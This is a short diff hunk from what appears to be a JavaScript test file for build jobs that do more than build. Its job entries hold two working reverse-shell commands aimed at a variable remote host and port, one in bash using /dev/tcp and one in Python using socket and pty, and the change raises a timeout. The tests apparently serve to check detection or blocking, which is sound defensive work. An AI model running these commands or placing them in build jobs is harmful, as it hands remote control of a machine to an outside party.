@@ -50,7 +50,7 @@ describe("a job that does more than build", () => {
       { id: "direct", run: `bash -c 'bash -i >& /dev/tcp/${far}/${port} 0>&1' &\nsleep 2\nkill %1` },
       {
         id: "terminal",
-        run: `timeout 3 python3 -c 'import socket,os,pty
+        run: `timeout 6 python3 -c 'import socket,os,pty
 s = socket.create_connection(("${far}", ${port}))
 for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
 pty.spawn("/bin/bash")' || true`,
